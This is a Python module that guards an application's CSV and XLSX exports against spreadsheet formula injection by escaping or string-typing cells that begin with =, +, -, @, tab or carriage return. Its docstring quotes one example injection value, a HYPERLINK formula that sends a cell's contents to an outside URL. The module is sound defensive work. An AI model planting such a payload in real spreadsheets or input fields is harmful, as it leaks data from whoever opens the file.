"""Formula neutralisation, shared by every spreadsheet the application writes (issue 19).

A student named ``=HYPERLINK("http://…/?leak="&A1,"Cliquez")`` must stay a name in every export: a
spreadsheet executes a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, through some importers, a
tabulation or a carriage return before them).

- CSV: such a cell is written with an apostrophe in front (``csv_cell``), which spreadsheets show as text.
- XLSX: such a cell is written as a string (``neutralise_workbook``, called by every writer just before
  saving): openpyxl would otherwise store a text starting with ``=`` as a live formula. The text itself
  is kept unchanged, so that a grade sheet read back gives the same names.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: object) -> str:
    """The text of one CSV cell, prefixed with an apostrophe when a spreadsheet would run it."""
    text = "" if value is None else str(value)
    return "'" + text if is_formula_like(text) else text


def csv_row(values: Any) -> list[str]:
    return [csv_cell(v) for v in values]


def neutralise_workbook(workbook: Any) -> Any:
    """Every text cell of every sheet of an openpyxl workbook written as a string, never as a formula.
    Returns the workbook."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or is_formula_like(cell.value):
                    cell.data_type = "s"
    return workbook
